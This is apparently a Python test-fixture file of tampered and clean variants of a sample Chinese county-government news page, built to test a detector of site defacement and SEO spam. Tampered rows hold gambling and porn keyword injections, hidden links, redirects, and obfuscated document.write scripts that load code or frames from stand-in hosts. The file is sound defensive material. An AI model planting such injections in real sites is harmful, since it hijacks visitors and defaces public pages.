"""Pages tampered with in ways that other corpora lack, and clean pages that look odd: twenty of each were written before their rules were looked at.

A row of ``TAMPERED`` is what was done, the altered part of a page, and the words of which a flag must hold one.
"""

from __future__ import annotations

_BODY = (
    "<p>本网讯 5月8日，县交通运输局召开农村公路养护工作会议，安排部署汛期养护任务。</p>"
    "<p>会议要求，各乡镇要落实养护责任，及时清理边沟，确保公路安全畅通。</p>"
    "<p>会议强调，养护资金专款专用，接受审计监督，严禁挪用。</p>"
    "<p>各乡镇分管负责人和养护站站长参加会议。</p>"
)
_TITLE = "县交通运输局召开农村公路养护工作会议"
PRAISE = "关于艺术家代表：当代书法名家许某，师承大家，笔墨酣畅，其书画作品多次获奖，被海内外藏家追捧，润格逐年攀升，极具收藏价值。"
FIRM = "某某集团创始人林某白手起家，诚信经营，荣获行业金奖，品牌享誉海内外，被誉为领军人物，客户一致好评，欢迎加盟。"


def page(
    *, title: str = f"{_TITLE}-云岭县人民政府", head: str = "", first: str = "", heading: str = _TITLE, body: str = _BODY, end: str = "",
    crumb: str = "<a href='/'>首页</a> &gt; <a href='/bmdt/'>部门动态</a>", host: str = "www.yunling.gov.cn", tag: str = _TITLE,
) -> tuple[str, bytes]:  # fmt: skip
    """An article's page, its parts replaced as asked: address and bytes."""
    html = (
        f"<html><head><meta charset='utf-8'><title>{title}</title><meta name='ArticleTitle' content='{tag}'>"
        f"<meta name='SiteDomain' content='www.yunling.gov.cn'>{head}</head><body>{first}"
        f"<div class='dqwz'>当前位置：{crumb}</div><h1>{heading}</h1><p>来源：县交通运输局 发布时间：2021-05-09 10:20</p>"
        f"<div class='TRS_Editor'>{body}</div>{end}<div class='foot'>主办：云岭县人民政府办公室 网站标识码：6299990001</div></body></html>"
    )
    return f"http://{host}/bmdt/202105/t20210509_1.html", html.encode()


def _after(count: int, markup: str) -> str:
    parts = [part + "</p>" for part in _BODY.split("</p>")[:-1]]
    return "".join([*parts[:count], markup, *parts[count:]])


# fmt: off
TAMPERED = (
    ("lewd words with blanks in the title", {"title": "国产 自拍 偷拍 视频 在线 免费 高清 人妻 熟女"}, ("自拍", "人妻", "国产")),
    ("lewd words behind the true title", {"title": f"{_TITLE}_久久精品视频_无码专区_免费看黄"}, ("久久精品", "无码")),
    ("lewd words as list items first", {"first": "<ul><li>亚洲无码在线</li><li>欧美激情视频</li><li>国产乱子伦</li></ul>"}, ("亚洲无码在线", "欧美激情视频", "国产乱子伦")),
    ("lewd words with middle dots first", {"first": "<p>成人视频·伦理片·三级在线·黄色小说</p>"}, ("成人视频", "黄色小说", "三级")),
    ("brand with digits in the crumb", {"crumb": "<a href='/'>88必发登录网址</a> &gt; <a href='/bmdt/'>部门动态</a>"}, ("88必发登录网址",)),
    ("brand in the crumb's title attribute", {"crumb": "<a href='/' title='威尼斯人娱乐城官网'>威尼斯人娱乐城官网</a> &gt; 部门动态"}, ("威尼斯人",)),
    ("praise between paragraphs", {"body": _after(2, f"<p style='font-family:Calibri'>{PRAISE}</p>")}, ("许某",)),
    ("praise in a span of its own font", {"body": _after(3, f"<p><font face='Calibri'>{FIRM}</font></p>")}, ("林某",)),
    ("praise in a div before the body", {"body": f"<div>{PRAISE}</div>{_BODY}"}, ("许某",)),
    ("another article under the tags", {"title": "云岭县人民政府", "heading": "养生茶的功效", "body": "<p>养生茶甘甜可口，长期饮用可清肝明目、延年益寿，深受消费者喜爱，全国包邮。</p><p>本品采用高山原叶，古法炒制，一盒三十袋，现在下单立减五十元，数量有限，先到先得。</p><p>客服微信在线解答，支持货到付款，七天无理由退换，欢迎各地代理商加盟洽谈合作。</p>"}, (_TITLE,)),
    ("style sheets moved, foreign host", {"host": "www.zt-copy8.example", "head": "<link href='static/css/style.css' rel='stylesheet'><script src='static/js/jquery.js'></script>"}, ("www.yunling.gov.cn",)),
    ("links hidden by clip", {"end": "<div style='position:absolute;clip:rect(1px,1px,1px,1px)'><a href='http://q1.example'>时时彩计划</a><a href='http://q2.example'>葡京赌场</a></div>"}, ("时时彩计划", "葡京赌场")),
    ("links hidden by colour", {"end": "<p style='color:#fff;background:#fff'><a style='color:#fff' href='http://q3.example'>百家乐开户</a></p>"}, ("百家乐开户",)),
    ("links hidden by a transform", {"end": "<div style='transform:scale(0)'><a href='http://q4.example'>六合彩资料</a></div>"}, ("六合彩资料",)),
    ("links hidden by max-height", {"end": "<div style='max-height:0;overflow:hidden'><a href='http://q5.example'>真钱棋牌平台</a></div>"}, ("真钱棋牌平台",)),
    ("links hidden by a style sheet", {"head": "<style>.zz{position:absolute;left:-5000px}</style>", "end": "<div class='zz'><a href='http://q6.example'>赌博网站大全</a><a href='http://q7.example'>AG真人视讯</a></div>"}, ("赌博网站大全", "AG真人视讯")),
    ("readings in ruby", {"body": _BODY + "<p><ruby>會<rt>huì</rt></ruby><ruby>議<rt>yì</rt></ruby>要求<ruby>嚴<rt>yán</rt></ruby>格落<ruby>實<rt>shí</rt></ruby>責<ruby>任<rt>rèn</rt></ruby>。</p>"}, ("會", "議", "嚴")),
    ("readings with blanks", {"body": _BODY + "<p>會 (huì) 議 (yì) 要求嚴 (yán) 格落實 (shí) 責 (zé) 任。</p>"}, ("會", "議", "嚴")),
    ("another county in every sentence", {"body": _BODY.replace("本网讯 5月8日，县交通运输局", "本网讯 5月8日，乐动体育县交通运输局").replace("会议要求", "乐动体育会议要求").replace("会议强调", "乐动体育会议强调")}, ("乐动体育",)),
    ("praise headed as one account does", {"body": _after(2, "<p><span style='font-family:Calibri'>关于书画家代表：贺某水，号观澜斋主，当代著名画坛巨匠，其山水笔力雄健、意境深远，被多国政要收藏，润格每平尺六万元。</span></p>")}, ("贺某水",)),
    ("a refresh to another owner's host", {"head": "<meta http-equiv='refresh' content='3;url=http://www.lucky-888.example/index.php'>"}, ("lucky-888",)),
    ("a script that leaves for another owner's host", {"end": "<script>setTimeout(function(){location.href='http://www.yule-city.example/';},2000)</script>"}, ("yule-city",)),
    ("a brand with letters of another script", {"body": _BODY.replace("会议要求", "会议要求，Уаbо体育官网下载")}, ("Уаbо",)),
    ("a brand with characters of no width", {"body": _BODY.replace("会议要求", "会议要求ya\u200bbo体\u200b育官网")}, ("bo体",)),
    ("a brand with dots between", {"body": _BODY.replace("会议要求", "会议要求澳·门·新·葡·京")}, ("新·葡·京",)),
    ("brands in hidden words without links", {"end": "<div style='display:none'>澳门威尼斯人官网 葡京赌场 六合彩开奖</div>"}, ("威尼斯人",)),
    ("links to trades that no county links", {"end": "<div class='links'>友情链接：<a href='http://b2.example'>传奇私服</a> <a href='http://c3.example'>私家侦探</a> <a href='http://d4.example'>代孕公司</a></div>"}, ("私家侦探", "代孕公司")),
    ("brands in the keywords", {"head": "<meta name='keywords' content='必威体育,必威app,betway'>"}, ("必威",)),
    ("forged papers in the description", {"head": "<meta name='description' content='办理各类文凭毕业证，微信wx88997766'>"}, ("毕业证",)),
    ("a lottery in the crumb", {"crumb": "<a href='/'>首页</a> &gt; <a href='/'>天下彩免费资料</a> &gt; 部门动态"}, ("天下彩",)),
    ("lotteries among the news", {"end": "<ul class='news'><li><a href='/1.html'>香港开奖现场直播</a><span>05-07</span></li><li><a href='/2.html'>图书馆延长开放</a><span>05-03</span></li></ul>"}, ("香港开奖",)),
    ("a frame of no size from elsewhere", {"end": "<iframe src='http://www.lucky-888.example/in.html' width='0' height='0' frameborder='0'></iframe>"}, ("lucky-888",)),
    ("a frame of one point by its style", {"end": "<iframe src='//hot.yule-city.example/a' style='width:1px;height:1px;border:0'></iframe>"}, ("yule-city",)),
    ("a script in numbers that writes another", {"end": "<script>document.write(String.fromCharCode(60,115,99,114,105,112,116,32,115,114,99,61,34,104,116,116,112,58,47,47,106,115,46,108,117,99,107,121,45,56,56,56,46,101,120,97,109,112,108,101,47,97,46,106,115,34,62,60,47,115,99,114,105,112,116,62))</script>"}, ("lucky-888",)),
    ("a script in escapes that writes a frame", {"end": "<script>document['write']('\\x3c\\x69\\x66\\x72\\x61\\x6d\\x65 src=\\x22http://yule-city.example/x\\x22 width=0\\x3e\\x3c/iframe\\x3e')</script>"}, ("yule-city",)),
    ("gambling in the description", {"head": "<meta name='Description' content='澳门新葡京娱乐场,皇冠足球投注,百家乐技巧,现金网开户'>"}, ("葡京", "百家乐", "皇冠")),
)
CLEAN = (
    ("a refresh of itself", {"head": "<meta http-equiv='refresh' content='20;url=http://www.yunling.gov.cn/bmdt/202105/t20210509_1.html'>"}),
    ("a site that moved", {"head": "<meta http-equiv='refresh' content='5;url=http://www.yunling-news.example/'>", "first": "<p>本站已迁移至新网址，5秒后自动跳转。</p>"}),
    ("a refresh to a public body", {"head": "<meta http-equiv='refresh' content='5;url=http://jt.another.gov.cn/'>"}),
    ("comments of readers who advertise", {"end": "<div class='comment-list'><h3>网友评论</h3><p>匿名网友 11-04 03:41</p><p>信用卡套现不看征信，加QQ8800110</p><p>路人 11-05 10:20</p><p>澳门新葡京娱乐城欢迎您</p></div>"}),
    ("a description of valued pieces", {"body": _after(2, "<p>关于文物鉴定：省文物鉴定站三位专家免费为群众鉴定藏品四十七件，其中一件清代瓷瓶品相完好，专家建议妥善收藏。鉴定不出证书，不估价格。</p>")}),
    ("links to local firms", {"end": "<div class='links'>友情链接：<a href='http://a.example'>云岭旅游</a> <a href='http://b.example'>特产商城</a> <a href='http://c.example'>云岭人才网</a> <a href='http://d.example'>房产网</a></div>"}),
    ("foreign letters in names", {"body": _after(2, "<p>代表团访问了Уфа市，考察了ISО9001认证、pH值与μg/L限值，α·β·γ三类射线。</p>")}),
    ("a case of private servers", {"body": _after(2, "<p>县公安局破获一起架设“传奇”私服案，抓获嫌疑人两名；一名私家侦探因侵犯个人信息被判刑。</p>")}),
    ("a width-less character in a sentence", {"body": _BODY.replace("会议要求", "会议要\u200b求")}),
    ("a case of a casino", {"body": _after(2, "<p>县法院判决一起在境外“新葡京”赌场网站代理案，主犯获刑五年。</p>")}),
    ("a police warning", {"heading": "警方提醒：警惕“百家乐”“六合彩”等网络赌博", "title": "警方提醒：警惕网络赌博-云岭县人民政府", "tag": "警方提醒：警惕“百家乐”“六合彩”等网络赌博", "body": "<p>近期，有人以“真人百家乐”为名诱骗群众参赌，县公安局已抓获嫌疑人九名。</p><p>请群众不要登录“六合彩资料”等网站。</p>"}),
    ("a painters' exhibition", {"heading": "书画名家走进云岭采风", "title": "书画名家走进云岭采风", "tag": "书画名家走进云岭采风", "body": "<p>5月8日，十二位书画名家走进云岭，现场挥毫泼墨，创作书法、国画作品三十余幅。</p><p>书法家许方正自幼酷爱书法，师从名家，作品多次获奖。他说，云岭的山水让他笔墨酣畅。</p><p>作品将由县美术馆收藏并展出。</p>"}),
    ("an award for a firm", {"heading": "云岭苹果荣获全国金奖", "title": "云岭苹果荣获全国金奖", "tag": "云岭苹果荣获全国金奖", "body": "<p>近日，云岭苹果荣获全国农产品博览会金奖。</p><p>合作社理事长林果香白手起家，诚信经营，她带领的合作社产品畅销海内外，深受客户好评，品牌价值逐年提升，被誉为致富领军人物。</p><p>全县苹果种植面积达十万亩。</p>"}),
    ("how to read a name", {"body": _BODY + "<p>会议在莘（shēn）庄镇和瀍（chán）河边举行。</p>"}),
    ("a spelling lesson", {"heading": "推广普通话：容易读错的地名", "title": "推广普通话：容易读错的地名", "tag": "推广普通话：容易读错的地名", "body": "<p>台州读作台(tāi)州，蚌埠读作蚌(bèng)埠，铅山读作铅(yán)山。</p>"}),
    ("sports lottery shops", {"heading": "体育彩票公益金用于全民健身", "title": "体育彩票公益金用于全民健身", "tag": "体育彩票公益金用于全民健身", "body": "<p>去年全县体育彩票销量八千万元，公益金全部用于健身路径建设。</p><p>中国体育彩票代销者需到网点登记。</p>"}),
    ("a service's app", {"heading": "医保app下载及注册登录操作指南", "title": "医保app下载及注册登录操作指南-云岭县医疗保障局官网", "tag": "医保app下载及注册登录操作指南", "body": "<p>第一步：扫描二维码下载“国家医保服务平台”app。</p><p>第二步：注册登录。</p><p>第三步：实名认证。</p>"}),
    ("a crumb with a platform", {"crumb": "<a href='/'>云岭县政务服务平台</a> &gt; <a href='/zc/'>用户注册登录</a> &gt; 帮助"}),
    ("a crumb with a sports bureau", {"crumb": "<a href='/'>首页</a> &gt; <a href='/ty/'>体育娱乐</a> &gt; 全民健身"}),
    ("a title with the site's column names", {"title": f"{_TITLE}_部门动态_政务公开_云岭县人民政府门户网站"}),
    ("keywords of a film festival", {"head": "<meta name='Keywords' content='欧美电影,国产影片,亚洲电影周,高清放映'>"}),
    ("a clipped label for screen readers", {"end": "<span style='position:absolute;clip:rect(1px,1px,1px,1px)'><a href='#main'>跳到正文</a></span>"}),
    ("a closed menu of districts", {"end": "<ul style='max-height:0;overflow:hidden'><li><a href='http://www.hebei.gov.cn'>河北</a></li><li><a href='http://www.shanxi.gov.cn'>山西</a></li><li><a href='http://www.news-paper.example'>云岭日报</a></li></ul>"}),
    ("white words on a banner", {"first": "<div style='background:#c00'><a style='color:#fff' href='http://zhuanti.example/2021'>学习专题</a></div>"}),
    ("paragraphs pasted from a word processor", {"body": _after(2, "<p style='font-family:Calibri'>据统计，全县列养农村公路一千八百公里，去年投入养护资金两千万元，新建错车道九十处，受益群众六万人。</p>")}),
    ("a local healer's clinic", {"heading": "老中医坐诊日", "title": "老中医坐诊日", "tag": "老中医坐诊日", "body": "<p>每周三，县中医院国医堂邀请名医坐诊，擅长治疗疑难杂症。</p><p>中医世家传人周济民大夫坐诊三十年，弟子众多，患者口碑好。</p>"}),
    ("ruby for children", {"body": _BODY + "<p>小朋友们认识了“<ruby>鼋<rt>yuán</rt></ruby>”字。</p>"}),
    ("an old name of the site", {"head": "<meta name='SiteName' content='云岭县政府信息网'>"}),
    ("a shop window of broadcasts", {"heading": "电商直播助农", "title": "电商直播助农", "tag": "电商直播助农", "body": "<p>主播在直播间推介土鸡蛋，真人出镜，国际化妆品牌免费试用，现场注册登录平台的用户领券。</p><p>活动由县商务局主办。</p>"}),
    ("a counter in a frame of no size", {"end": "<iframe src='http://count.hits.example/c?id=3' width='0' height='0'></iframe><iframe src='/stat.html' width='0' height='0'></iframe>"}),
    ("a frame of the province", {"end": "<iframe src='http://www.hebei.gov.cn/sso' style='width:0;height:0'></iframe>"}),
    ("the mark of public institutions", {"end": "<script>document.write(unescape(\"%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/1.js' type='text/javascript'%3E%3C/script%3E\"));</script>"}),
    ("a mail address in numbers", {"end": "<script>document.write(String.fromCharCode(60,97,32,104,114,101,102,61,34,109,97,105,108,116,111,58,97,64,98,46,99,110,34,62,60,47,97,62))</script>"}),
    ("the page of a lottery's funds", {"body": _after(2, "<p>福彩开奖直播由省福彩中心组织，体彩开奖结果次日公布，公益金用于养老。</p>")}),
    ("static folders of the site's own", {"head": "<link href='/static/css/main.css' rel='stylesheet'><script src='/static/js/app.js'></script>", "end": "<img src='/static/picture/logo.png'>"}),
)
# fmt: on
